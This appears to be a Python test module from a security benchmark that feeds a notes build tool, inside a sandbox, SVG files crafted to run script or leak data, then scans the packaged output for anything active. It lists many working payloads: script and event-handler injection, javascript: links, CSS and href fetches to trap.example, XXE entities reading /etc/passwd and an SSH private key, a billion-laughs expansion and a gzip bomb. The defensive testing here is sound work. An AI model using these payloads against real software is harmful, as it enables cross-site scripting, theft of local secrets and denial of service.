"""Drawings that act: what is packed of each draws, and does nothing else."""

from __future__ import annotations

import base64
import gzip
import re
from collections.abc import Iterator

from lxml import etree

from benchmarks.attack import Result
from benchmarks.attack._judge import find_package, read_media
from benchmarks.attack._markup import decode_css
from benchmarks.attack._sandbox import CANARY, Sandbox, open_sandbox
from benchmarks.attack._trial import BUILD, choose_tries, judge_package, try_commands

TRIES = 200
BATCH = 20
OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20">'
RECT = '<rect width="9" height="9" fill="red"/>'
RUN = "fire()"
BODIES = (
    "<script>fire()</script>",
    "<SCRIPT>fire()</SCRIPT>",
    '<script href="//trap.example/a.js"/>',
    '<script xlink:href="data:text/javascript,fire()"/>',
    "<style>@import '//trap.example/a.css';</style>",
    "<style>@im\\70ort '//trap.example/a.css';</style>",
    "<style>rect{fill:url(//trap.example/a.svg#a)}</style>",
    "<style>rect{fill:u\\72l(//trap.example/a.svg#a)}</style>",
    "<style>@font-face{font-family:a;src:url(//trap.example/a.woff)}</style>",
    "<style><![CDATA[rect{background:url(http://trap.example/a)}]]></style>",
    "<style>rect{background:image-set('//trap.example/a.png' 1x)}</style>",
    "<style>rect{cursor:url(//trap.example/a.cur),auto}</style>",
    "<style>rect{mask-image:-webkit-image-set('//trap.example/a.png' 1x)}</style>",
    "<style>/**/@import/**/url(//trap.example/a)</style>",
    '<style>@import "data:text/css,*{}";</style>',
    "<style>@namespace url(http://trap.example/)</style>",
    '<foreignObject width="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="//trap.example/"/></foreignObject>',
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="fire()"/></foreignObject>',
    '<x:script xmlns:x="http://www.w3.org/2000/svg">fire()</x:script>',
    '<h:script xmlns:h="http://www.w3.org/1999/xhtml">fire()</h:script>',
    '<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="fire()"/>',
    '<a href="javascript:fire()"><text y="9">x</text></a>',
    '<a xlink:href="javascript:fire()"><text y="9">x</text></a>',
    '<a xlink:href="&#106;avascript:fire()"><text y="9">x</text></a>',
    '<a xlink:href=" java&#10;script:fire()"><text y="9">x</text></a>',
    '<a href="data:text/html,x"><text y="9">x</text></a>',
    '<a><animate attributeName="href" values="javascript:fire()"/><text y="9">x</text></a>',
    '<a id="a"><set attributeName="xlink:href" to="javascript:fire()"/><text y="9">x</text></a>',
    '<set attributeName="onmouseover" to="fire()"/>',
    '<animate attributeName="x" onbegin="fire()" dur="1s"/>',
    '<animate href="#a" attributeName="href" from="#" to="javascript:fire()"/>',
    '<animateTransform onend="fire()" attributeName="transform" type="rotate" dur="1s"/>',
    '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">fire()</handler>',
    '<listener xmlns="http://www.w3.org/2001/xml-events" event="load" handler="#a"/>',
    '<image href="//trap.example/a.png" width="9" height="9"/>',
    '<image xlink:href="http://trap.example/a.png" width="9" height="9"/>',
    '<image href="file:///etc/passwd" width="9" height="9"/>',
    '<image href="data:image/svg+xml,%3Csvg onload=%22fire()%22/%3E" width="9" height="9"/>',
    '<image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImZpcmUoKSIvPg==" width="9" height="9"/>',
    '<image href="data:text/html,x" width="9" height="9"/>',
    '<use href="//trap.example/a.svg#a"/>',
    '<use xlink:href="data:image/svg+xml,%3Csvg id=%22a%22/%3E#a"/>',
    '<use href="other.svg#a"/>',
    '<feImage href="//trap.example/a.png"/>',
    '<filter id="f"><feImage xlink:href="http://trap.example/a.png"/></filter>',
    '<pattern id="p" href="//trap.example/a.svg#p"/>',
    '<linearGradient id="g" xlink:href="//trap.example/a.svg#g"/>',
    '<mpath href="//trap.example/a.svg#m"/>',
    '<tref xlink:href="//trap.example/a.txt"/>',
    '<cursor xlink:href="//trap.example/a.cur"/>',
    '<font-face-uri xlink:href="//trap.example/a.svg#f"/>',
    '<color-profile xlink:href="//trap.example/a.icc" name="a"/>',
    '<rect onload="fire()"/>',
    '<rect ONCLICK="fire()"/>',
    '<rect onclick&#10;="fire()"/>',
    '<rect x:onclick="fire()" xmlns:x="http://www.w3.org/2000/svg"/>',
    '<rect style="fill:url(//trap.example/a#b)"/>',
    '<rect style="background:url(&quot;http://trap.example/a&quot;)"/>',
    '<rect fill="url(//trap.example/a.svg#a)"/>',
    "<rect fill=\"url( 'http://trap.example/a.svg#a' )\"/>",
    '<rect fill="u\\72l(//trap.example/a.svg#a)"/>',
    '<rect filter="url(http://trap.example/a.svg#f)"/>',
    '<rect clip-path="url(file:///etc/passwd#a)"/>',
    '<rect mask="URL(//trap.example/a.svg#m)"/>',
    '<path marker-start="url(//trap.example/a.svg#m)" d="M0 0L9 9"/>',
    '<text style="behavior:url(a.htc)">x</text>',
    '<text style="-moz-binding:url(//trap.example/a)">x</text>',
    '<iframe src="javascript:fire()"/>',
    '<embed src="//trap.example/"/>',
    '<object data="//trap.example/"/>',
    '<video><source onerror="fire()"/></video>',
    '<audio src="//trap.example/a.mp3"/>',
    '<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="//trap.example/a.css"/>',
    '<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=//trap.example/"/>',
    '<base xmlns="http://www.w3.org/1999/xhtml" href="//trap.example/"/>',
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret}" parse="text"/>',
    '<rect xml:base="javascript:/*"/>',
    '<discard onbegin="fire()"/>',
    "<title><script>fire()</script></title>",
    "<desc><![CDATA[</desc><script>fire()</script>]]></desc>",
    "<metadata><script>fire()</script></metadata>",
    "<switch><foreignObject><script>fire()</script></foreignObject></switch>",
    "<!--><script>fire()</script>-->",
    "<style></style><script>fire()//</style></script>",
    '<view id="a" onload="fire()"/>',
    '<svg onload="fire()"/>',
    '<svg><svg><svg><script xlink:href="data:,fire()"/></svg></svg></svg>',
    '<text y="9"><textPath href="//trap.example/a.svg#p">x</textPath></text>',
    '<text y="9" xlink:actuate="onLoad" xlink:show="replace" xlink:href="//trap.example/">x</text>',
)
WHOLE = (
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file://{secret}">]>' + OPEN + "<text>&a;</text></svg>",
    '<!DOCTYPE svg SYSTEM "file://{secret}">' + OPEN + RECT + "</svg>",
    '<!DOCTYPE svg [<!ENTITY % a SYSTEM "file://{secret}">%a;]>' + OPEN + RECT + "</svg>",
    '<!DOCTYPE svg [<!ENTITY a "<script>fire()</script>">]>' + OPEN + "&a;</svg>",
    '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;'
    '&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">'
    '<!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">]>'
    + OPEN
    + "<text>&g;</text></svg>",
    '<!DOCTYPE svg [<!ATTLIST rect onclick CDATA "fire()">]>' + OPEN + RECT + "</svg>",
    '<?xml-stylesheet type="text/css" href="//trap.example/a.css"?>' + OPEN + RECT + "</svg>",
    '<?xml-stylesheet type="text/xsl" href="#a"?>' + OPEN + RECT + "</svg>",
    OPEN.replace("<svg ", '<svg onload="fire()" ') + RECT + "</svg>",
    OPEN.replace("<svg ", '<svg xml:base="//trap.example/" ') + RECT + "</svg>",
    OPEN.replace("<svg ", '<svg style="background:url(//trap.example/a)" ') + RECT + "</svg>",
    OPEN.replace("http://www.w3.org/2000/svg", "http://www.w3.org/1999/xhtml") + "<script>fire()</script></svg>",
    "<html><svg></svg><script>fire()</script></html>",
    OPEN + RECT + "</svg><script>fire()</script>",
    OPEN + "<g>" * 20_000 + "<script>fire()</script>" + "</g>" * 20_000 + "</svg>",
    OPEN + '<use href="#a"/>' + "".join(f'<g id="a{n}">' + f'<use href="#a{n + 1}"/>' * 10 + "</g>" for n in range(9)),
    OPEN + RECT,
    OPEN + '<rect onclick="fire()" ',
    "\ufeff" + OPEN + "<script>fire()</script></svg>",
)


def attack(tries: int, seed: int) -> Result:
    """Build notes with many drawings, and read each that is packed."""
    drawings = choose_tries(list_drawings(), tries, seed)
    through: list[str] = []
    for start in range(0, len(drawings), BATCH):
        through += build_drawings(drawings[start : start + BATCH])
    return Result(len(drawings), tuple(through))


def list_drawings() -> list[bytes]:
    """Return the drawings as UTF-8, some in other encodings, and some packed."""
    texts = [*(OPEN + RECT + body + "</svg>" for body in BODIES), *WHOLE]
    utf16 = [f'<?xml version="1.0" encoding="utf-16"?>{text}'.encode("utf-16") for text in texts[:20:2]]
    utf7 = [
        b'<?xml version="1.0" encoding="utf-7"?>'
        + OPEN.encode()
        + "<script>fire()</script>".encode("utf-7")
        + b"</svg>"
    ]
    latin = [f'<?xml version="1.0" encoding="iso-8859-1"?>{text}'.encode() for text in texts[1:20:3]]
    packed = [gzip.compress(texts[0].encode()), gzip.compress(b"<svg/>" + b" " * 50_000_000)]
    return [*(text.encode() for text in texts), *utf16, *utf7, *latin, *packed]


def build_drawings(drawings: list[bytes]) -> Iterator[str]:
    """Yield what a build of notes with these drawings did wrong."""
    with open_sandbox({}) as sandbox:
        for number, drawing in enumerate(drawings):
            write_drawing(sandbox, number, drawing)
        yield from try_commands(sandbox, [BUILD, ("preview", "notes")])
        yield from judge_package(sandbox)
        package = find_package(sandbox)
        for name, data in (read_media(package) if package else {}).items():
            yield from (f"{name}: {wrong}: {data[:200]!r}" for wrong in find_active_drawing(data))


def write_drawing(sandbox: Sandbox, number: int, drawing: bytes) -> None:
    """Write a note with a drawing in a file and in a `data:` address."""
    data = drawing.replace(b"{secret}", str(sandbox.home / ".ssh" / "id_rsa").encode())
    sandbox.write(f"notes/s{number}.svg", data)
    inline = f"data:image/svg+xml;base64,{base64.b64encode(data).decode()}" if len(data) < 20_000 else "a.svg"
    sandbox.write(f"notes/{number}.md", f"# 노트 {number}\n\n## 그림\n\n![x](s{number}.svg)\n\n![y]({inline})\n")


PASSIVE_NAMES = re.compile(
    r"svg|g|a|defs|desc|title|symbol|use|image|switch|path|rect|circle|ellipse|line|polyline|polygon|text|tspan|textPath"
    r"|marker|pattern|mask|clipPath|filter|linearGradient|radialGradient|stop|style|metadata|view|fe[A-Z]\w*|hatch\w*|mesh\w*"
    r"|animate|animateTransform|animateMotion|set|mpath|discard|tref|cursor|color-profile|font-face\S*"
)
LEADS_OUT = re.compile(
    r"url\(\s*['\"]?(?!\s*['\"]?(?:#|data:image/(?:png|jpe?g|gif|webp|avif)[;,]|data:font/|data:application/(?:x-)?font))"
    r"|@import\b|javascript:|expression\(|-moz-binding|behavior:|image-set\(|trap\.example",
    re.I,
)
ACTIVE_BYTES = re.compile(rb"<!DOCTYPE|<!ENTITY|<\?xml-stylesheet", re.I)


def find_active_drawing(data: bytes) -> Iterator[str]:
    """Yield what a packed drawing does besides drawing."""
    if b"<svg" not in data[:2000] and not data.lstrip().startswith((b"<", b"\xef\xbb\xbf<", b"\xff\xfe", b"\xfe\xff")):
        return
    if CANARY.encode() in data:
        yield "holds a secret"
    yield from (f"{match[0]!r}" for match in ACTIVE_BYTES.finditer(data))
    try:
        root = etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True, huge_tree=True))
    except etree.XMLSyntaxError as error:
        yield f"is no XML: {error}"
        return
    for element in root.iter():
        yield from find_active_element(element)


def find_active_element(element: etree._Element) -> Iterator[str]:
    """Yield what is active in an element of a drawing."""
    if not isinstance(element.tag, str):
        if not isinstance(element, etree._Comment):
            yield f"a {type(element).__name__}"
        return
    name = etree.QName(element)
    if name.namespace not in ("http://www.w3.org/2000/svg", None) or not PASSIVE_NAMES.fullmatch(name.localname):
        yield f"<{element.tag}>"
    for key, value in element.attrib.items():
        attribute = etree.QName(str(key)).localname.lower()
        text = decode_css(str(value))
        if attribute.startswith("on") or LEADS_OUT.search(text):
            yield f"<{name.localname} {attribute}={value!r}>"
        if attribute in ("href", "src") and not re.match(r"\s*(?:#|data:image/(?!svg)|https?:)", str(value)):
            yield f"<{name.localname} {attribute}={value!r}>"
        if attribute == "attributename" and str(value).lower().rpartition(":")[2] in ("href", "src", "style"):
            yield f"<{name.localname} attributeName={value!r}>"
    if name.localname == "style" and LEADS_OUT.search(decode_css(element.text or "")):
        yield f"<style> {element.text!r}"
